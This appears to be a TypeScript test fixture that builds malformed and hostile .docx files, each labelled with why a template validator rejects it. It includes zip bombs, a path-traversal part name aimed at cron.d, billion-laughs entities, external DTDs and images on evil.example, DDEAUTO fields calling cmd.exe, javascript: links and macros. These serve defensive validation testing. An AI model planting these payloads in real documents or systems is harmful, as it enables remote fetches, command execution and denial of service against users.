import { strToU8, type Zippable, zipSync } from "fflate";
import type { FaultReason } from "#app/domain/document/own-template.ts";
import { field, MAIN_TYPE, OFFICE, paragraph, partsOf, relationships, text, W, wordFile } from "./files.ts";

/** Files that are no templates, each with why. */

const ole = (words = "") => {
  const mark = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  return new Uint8Array([...mark, ...new Uint8Array(504), ...Buffer.from(words, "utf16le")]);
};

/** The file with some of its bytes changed, `at` counted from where `mark` stands for the `nth` time. */
function patched(file: Uint8Array, mark: number[], at: number, bytes: number[], nth = 0): Uint8Array {
  const copy = Buffer.from(file);
  let from = -1;
  for (let n = 0; n <= nth; n += 1) from = copy.indexOf(Buffer.from(mark), from + 1);
  if (from < 0) throw new Error("the mark must be there");
  copy.set(bytes, from + at);
  return copy;
}
const CENTRAL = [0x50, 0x4b, 1, 2];
const LOCAL = [0x50, 0x4b, 3, 4];
const END = [0x50, 0x4b, 5, 6];

const with_ = (name: string, part: string | Uint8Array) => wordFile({ parts: { [name]: part } });
const external = (type: string, target: string) => wordFile({ rels: [{ type, target, external: true }] });
const body = (inside: string, namespaces = "") => wordFile({ body: inside, namespaces });
const simple = (code: string) => body(`<w:p><w:fldSimple w:instr="${code}">${text("1")}</w:fldSimple></w:p>`);

/** A part of relationships that holds this one; `%` are its attributes. */
const linksBy = (element: string, target = "javascript:alert(1)") =>
  relationships([]).replace(
    "</Relationships>",
    `${element.replace("%", `Id="rId1" Type="${OFFICE}/hyperlink" Target="${target}" TargetMode="External"`)}</Relationships>`,
  );

const zeros = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024);
/** 40 MB of nothing, of which the directory says that it is 100 bytes. */
function lyingBomb(): Uint8Array {
  const file = zipSync({ ...Object.fromEntries(partsOf({})), "word/media/a.png": zeros(40) } as Zippable);
  return patched(file, CENTRAL, 24, [100, 0, 0, 0], 3);
}
/** One part's bytes under thirty names. */
function overlapping(): Uint8Array {
  const names = Array.from({ length: 30 }, (_, n) => `word/media/a${n}.png`);
  const file = zipSync({ ...Object.fromEntries(partsOf({})), ...Object.fromEntries(names.map((n) => [n, zeros(1)])) });
  const copy = Buffer.from(file);
  const first = copy.indexOf(Buffer.from(CENTRAL));
  const view = new DataView(copy.buffer, copy.byteOffset);
  let at = first;
  let shared = 0;
  while (view.getUint32(at, true) === 0x02014b50) {
    const length = view.getUint16(at + 28, true);
    const name = copy.toString("utf8", at + 46, at + 46 + length);
    if (name === "word/media/a0.png") shared = view.getUint32(at + 42, true);
    else if (name.startsWith("word/media/")) view.setUint32(at + 42, shared, true);
    at += 46 + length + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return copy;
}

const laughs = `<!DOCTYPE w [<!ENTITY a "ha">${Array.from("bcdefgh", (name, n) => `<!ENTITY ${name} "${`&${"abcdefgh"[n]};`.repeat(10)}">`).join("")}]>`;
const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const documentOf = (inside: string) => `<w:document ${W}><w:body>${inside}</w:body></w:document>`;

export const hostile: [name: string, reason: FaultReason, make: () => Uint8Array][] = [
  ["nothing", "empty", () => new Uint8Array()],
  ["more than 5 MB", "too-large", () => new Uint8Array(5 * 1024 * 1024 + 1).fill(0x50)],
  ["a PDF called .docx", "not-word", () => strToU8("%PDF-1.7 …")],
  ["a web page called .docx", "not-word", () => strToU8("<html><body>会议纪要</body></html>")],
  ["an old .doc", "old-word", () => ole("WordDocument")],
  ["a file with a password", "encrypted", () => ole("EncryptedPackage")],
  ["an archive whose entries are locked", "encrypted", () => patched(wordFile(), CENTRAL, 8, [1], 2)],
  [
    "a workbook",
    "other-office",
    () => wordFile({ mainType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml" }),
  ],
  ["a .dotx", "template-kind", () => wordFile({ mainType: MAIN_TYPE.replace(".document.main", ".template.main") })],
  ["a .docm", "macros", () => wordFile({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" })],
  ["macros left in a .docx", "macros", () => with_("word/vbaProject.bin", ole())],
  [
    "macros called otherwise",
    "macros",
    () =>
      wordFile({
        rels: [{ type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "media/a.png" }],
      }),
  ],
  [
    "buttons in the ribbon",
    "macros",
    () =>
      wordFile({
        parts: {
          "_rels/.rels": relationships([
            { type: "officeDocument", target: "word/document.xml" },
            {
              type: "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
              target: "customUI/customUI.xml",
            },
          ]),
          "customUI/customUI.xml": "<customUI/>",
        },
      }),
  ],
  ["half a file", "damaged", () => wordFile().subarray(0, 700)],
  ["a part with other bytes", "damaged", () => patched(wordFile(), CENTRAL, 16, [1, 2, 3, 4], 2)],
  ["a part that its own header calls otherwise", "damaged", () => patched(wordFile(), LOCAL, 30, [0x78], 2)],
  ["a directory of the huge kind", "damaged", () => patched(wordFile(), END, 10, [0xff, 0xff])],
  ["an unknown way of packing", "damaged", () => patched(wordFile(), CENTRAL, 10, [99], 2)],
  [
    "60 MB of nothing",
    "unpacks-too-large",
    () => zipSync({ ...Object.fromEntries(partsOf({})), "word/media/a.png": zeros(60) }),
  ],
  ["a bomb that lies about its size", "unpacks-too-large", lyingBomb],
  ["one part under thirty names", "damaged", overlapping],
  [
    "1,100 parts",
    "too-many-parts",
    () => wordFile({ parts: Object.fromEntries(Array.from({ length: 1100 }, (_, n) => [`word/media/${n}.png`, "x"])) }),
  ],
  ["a part outside its folder", "odd-part", () => with_("word/../../etc/cron.d/a.xml", "<a/>")],
  ["a part twice, in other letters", "odd-part", () => with_("word/Document.xml", documentOf(paragraph("别的")))],
  ["a program among the parts", "odd-part", () => with_("word/media/a.exe", "MZ")],
  ["no list of kinds", "not-word", () => with_("[Content_Types].xml", null as never)],
  ["no main part", "damaged", () => wordFile({ parts: { "word/document.xml": null } })],
  ["nothing that names the main part", "damaged", () => wordFile({ parts: { "_rels/.rels": null } })],
  [
    "the strict kind",
    "strict",
    () =>
      wordFile({
        parts: {
          "_rels/.rels": relationships([
            {
              type: "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
              target: "word/document.xml",
            },
          ]),
        },
      }),
  ],
  ["XML that is none", "damaged", () => body("<w:p><w:r></w:p></w:r>")],
  ["XML that ends early", "damaged", () => body(`${XML}${documentOf("<w:p>").slice(0, -30)}`)],
  [
    "a document type",
    "doctype",
    () => body(`${XML}<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">${documentOf(paragraph("a"))}`),
  ],
  ["entities in entities", "doctype", () => body(`${XML}${laughs}${documentOf(paragraph("&h;"))}`)],
  ["an unknown entity", "doctype", () => body(paragraph("&file;"))],
  ["text in another coding", "not-utf8", () => with_("word/styles.xml", Buffer.from(`\ufeff<a/>`, "utf16le"))],
  [
    "another coding announced",
    "not-utf8",
    () => with_("word/styles.xml", '<?xml version="1.0" encoding="UTF-7"?><a/>'),
  ],
  ["100,000 elements in each other", "too-deep", () => body("<w:p>".repeat(100_000) + "</w:p>".repeat(100_000))],
  ["300,000 elements", "too-many-elements", () => body("<w:p/>".repeat(300_000))],
  ["300,000 attributes without end", "damaged", () => body(`<w:p ${'a="b" '.repeat(300_000)}`)],
  ["an attribute twice", "damaged", () => body('<w:p w:a="1" w:a="2"/>')],
  ["a picture from outside", "external", () => external("image", "http://evil.example/a.png")],
  [
    "a template from outside",
    "external",
    () =>
      wordFile({
        parts: {
          "word/_rels/settings.xml.rels": relationships([
            { type: "attachedTemplate", target: "http://evil.example/t.dotm", external: true },
          ]),
        },
      }),
  ],
  ["a link to a file", "external", () => external("hyperlink", "file:///C:/Windows/system32/calc.exe")],
  ["a link that is a program", "external", () => external("hyperlink", "javascript:alert(1)")],
  [
    "a link that is a program, in an element that only the preview takes for a relationship",
    "damaged",
    () => with_("word/_rels/document.xml.rels", linksBy('<Link xmlns="urn:x" %/>')),
  ],
  [
    "a link that is a program, in attributes of another namespace that the preview reads first",
    "damaged",
    () =>
      with_(
        "word/_rels/document.xml.rels",
        linksBy('<Relationship xmlns:x="urn:x" x:Target="javascript:alert(1)" %/>', "https://example.cn/"),
      ),
  ],
  ["a picture on another computer", "external", () => external("image", "\\\\10.0.0.1\\share\\a.png")],
  [
    "a target outside that is not called so",
    "external",
    () => wordFile({ rels: [{ type: "image", target: "https://evil.example/a.png" }] }),
  ],
  [
    "a picture of the old kind from outside",
    "external",
    () =>
      body(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
      ),
  ],
  ["an OLE object", "embedded", () => wordFile({ rels: [{ type: "oleObject", target: "media/a.png" }] })],
  ["an embedded workbook", "embedded", () => with_("word/embeddings/a.xlsx", "PK")],
  ["a control", "embedded", () => body('<w:p><w:r><w:control w:name="a"/></w:r></w:p>')],
  ["a piece of another format", "outside-content", () => body('<w:altChunk xmlns:r="r" r:id="rId9"/>')],
  ["another document in it", "outside-content", () => wordFile({ rels: [{ type: "subDocument", target: "a.docx" }] })],
  [
    "a panel of the web",
    "outside-content",
    () =>
      wordFile({
        rels: [
          { type: "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", target: "a.xml" },
        ],
      }),
  ],
  ["a mail merge", "mail-merge", () => with_("word/settings.xml", `<w:settings ${W}><w:mailMerge/></w:settings>`)],
  ["DDEAUTO", "field", () => body(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))],
  ["DDE in small letters", "field", () => simple(" dde excel a ")],
  ["INCLUDEPICTURE", "field", () => simple("INCLUDEPICTURE &quot;http://evil.example/a.png&quot;")],
  ["INCLUDETEXT in two pieces", "field", () => body(field("INCLUDE", 'TEXT "c:\\a.docx"'))],
  [
    "a field whose name another one writes",
    "field",
    () =>
      body(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field("SEQ a").slice(5, -6)}<w:r><w:instrText>cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
  ],
  [
    "a field under another prefix",
    "field",
    () =>
      body(
        field("DDEAUTO a").replaceAll("w:instrText", "x:instrText").replaceAll("w:fldChar", "x:fldChar"),
        'xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"',
      ),
  ],
  [
    "a field that never ends",
    "field",
    () => body('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>LINK a</w:instrText></w:r></w:p>'),
  ],
  ["a field that links to a file", "external", () => body(field('HYPERLINK "file:///C:/a.exe"'))],
  ["a brace that is never closed", "brace-open", () => body(paragraph("{会议", "名称"))],
  ["a brace within a brace", "brace-open", () => body(paragraph("{会议{名称}}"))],
  ["a brace that was never opened", "brace-close", () => body(paragraph("会议名称}"))],
  ["a placeholder over two paragraphs", "brace-open", () => body(paragraph("{会议") + paragraph("名称}"))],
  ["braces with nothing in them", "empty-name", () => body(paragraph("{ }"))],
  ["a loop that is not closed", "loop-not-closed", () => body(paragraph("{#议题}{题目}"))],
  ["a loop closed by another name", "loop-not-closed", () => body(paragraph("{#议题}{题目}{/表决}"))],
  ["an end without a beginning", "loop-not-opened", () => body(paragraph("{题目}{/议题}"))],
  [
    "a loop from a cell to the text below",
    "loop-crossed",
    () =>
      body(
        `<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc>${paragraph("{#议题}")}</w:tc></w:tr></w:tbl>${paragraph("{/议题}")}`,
      ),
  ],
  [
    "a loop in a link",
    "loop-place",
    () => body(`<w:p><w:hyperlink w:anchor="a">${text("{#议题}")}</w:hyperlink>${text("{/议题}")}</w:p>`),
  ],
  [
    "a loop in a content control",
    "loop-place",
    () => body(`<w:sdt><w:sdtContent>${paragraph("{#议题}a{/议题}")}</w:sdtContent></w:sdt>`),
  ],
];
